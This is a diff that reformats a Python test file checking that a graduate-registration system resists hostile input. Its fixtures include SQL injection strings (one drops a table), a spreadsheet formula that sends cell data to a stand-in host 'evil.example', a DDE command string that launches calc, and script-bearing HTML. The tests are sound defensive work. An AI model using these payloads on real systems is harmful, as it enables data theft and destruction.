@@ -22,7 +22,13 @@ from tests.conftest import (
     write_csv,
 )
 
-SQL_ATTACKS = ["商学院' or '1'='1", "x'; drop table graduates; --", "商学院\" or 1=1 --", "%", "' union select * from users --"]
+SQL_ATTACKS = [
+    "商学院' or '1'='1",
+    "x'; drop table graduates; --",
+    '商学院" or 1=1 --',
+    "%",
+    "' union select * from users --",
+]
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
 SCRIPT = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'
 
@@ -32,8 +38,10 @@ def hostile(store: Store, tmp_path: Path) -> Store:
     """Two graduates whose name is a formula and whose registration note is HTML with script."""
     roster = [roster_row(0, 姓名=FORMULA), roster_row(1, 姓名="+cmd|' /C calc'!A0")]
     imports.import_file(store, SYSTEM, "roster", write_csv(tmp_path / "r.csv", ROSTER_HEADER, roster))
-    rows = [registration_row(0, 姓名=FORMULA, 情况说明=SCRIPT, 审核状态="已退回", 退回原因="@SUM(1+1)*cmd"),
-            registration_row(1, 姓名="+cmd|' /C calc'!A0", 情况说明="-2+3")]
+    rows = [
+        registration_row(0, 姓名=FORMULA, 情况说明=SCRIPT, 审核状态="已退回", 退回原因="@SUM(1+1)*cmd"),
+        registration_row(1, 姓名="+cmd|' /C calc'!A0", 情况说明="-2+3"),
+    ]
     imports.import_file(store, SYSTEM, "registrations", write_csv(tmp_path / "g.csv", REGISTRATION_HEADER, rows))
     return store
 
@@ -44,8 +52,7 @@ def test_sql_in_a_filter_is_a_value_that_matches_nothing(hostile: Store, attack:
         for name in ("stats_breakdowns", "review_results"):
             rows = reader.rows(name, cohort=2024, **Filters(college=attack).params())
             assert all(r.get("graduates", 0) == 0 for r in rows) if name == "stats_breakdowns" else rows == []
-        assert reader.rows("graduate_list", cohort=2024, search=attack, limit=10, offset=0,
-                           **Filters().params()) == []
+        assert reader.rows("graduate_list", cohort=2024, search=attack, limit=10, offset=0, **Filters().params()) == []
     assert table(hostile, "select count(*) from graduates") == [(2,)]  # nothing dropped
 
 
@@ -66,12 +73,17 @@ def test_a_quote_in_a_scope_is_part_of_the_value_and_an_attack_sees_nobody(store
     with store.reading(Actor("院长", "college_reviewer", ("圣约翰'设计学院",))) as reader:
         assert reader.conn.execute("select student_id from graduate_stages").fetchall() == [("0024000000",)]
     for attack in SQL_ATTACKS:
-        for actor in (Actor("院长", "college_reviewer", (attack, "商学院' or '1'='1")),
-                      Actor(attack, "graduate", None, attack)):
+        for actor in (
+            Actor("院长", "college_reviewer", (attack, "商学院' or '1'='1")),
+            Actor(attack, "graduate", None, attack),
+        ):
             with store.reading(actor) as reader:
                 assert reader.conn.execute("select count(*) from graduate_stages").fetchall() == [(0,)]
     assert table(store, "select count(*) from graduates") == [(2,)]  # nothing dropped
-    with pytest.raises(StoreError, match="不可见字符"), store.reading(Actor("院长", "college_reviewer", ("商\x00学院",))):
+    with (
+        pytest.raises(StoreError, match="不可见字符"),
+        store.reading(Actor("院长", "college_reviewer", ("商\x00学院",))),
+    ):
         pass
 
 
@@ -85,14 +97,29 @@ def test_formulas_in_names_stay_text_in_every_export(hostile: Store, tmp_path: P
     assert cli.main(["--db", str(hostile.path), "--today", "2024-06-10", "review", "export", "--out", str(xlsx)]) == 0
     for path in (xlsx,):
         sheet = openpyxl.load_workbook(path).active
-        cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
+        cells = [
+            c
+            for row in sheet.iter_rows()
+            for c in row
+            if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))
+        ]
         assert cells and all(c.data_type == "s" for c in cells)  # strings, never formulas
     with hostile.reading(SYSTEM) as reader:
-        risks = reader.query("risk_list", cohort=2024, review_wait_days=3, reason=None, limit=10, offset=0,
-                             **Filters().params(), **progress.urgency_params(7))
+        risks = reader.query(
+            "risk_list",
+            cohort=2024,
+            review_wait_days=3,
+            reason=None,
+            limit=10,
+            offset=0,
+            **Filters().params(),
+            **progress.urgency_params(7),
+        )
     from datetime import date
 
-    book = exports.chase_list_xlsx(progress.describe_risks(risks, date(2024, 6, 17), date(2024, 6, 10)), "服设", date(2024, 6, 10))
+    book = exports.chase_list_xlsx(
+        progress.describe_risks(risks, date(2024, 6, 17), date(2024, 6, 10)), "服设", date(2024, 6, 10)
+    )
     sheet = openpyxl.load_workbook(io.BytesIO(book)).active
     names = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
     assert names and all(c.data_type == "s" for c in names)
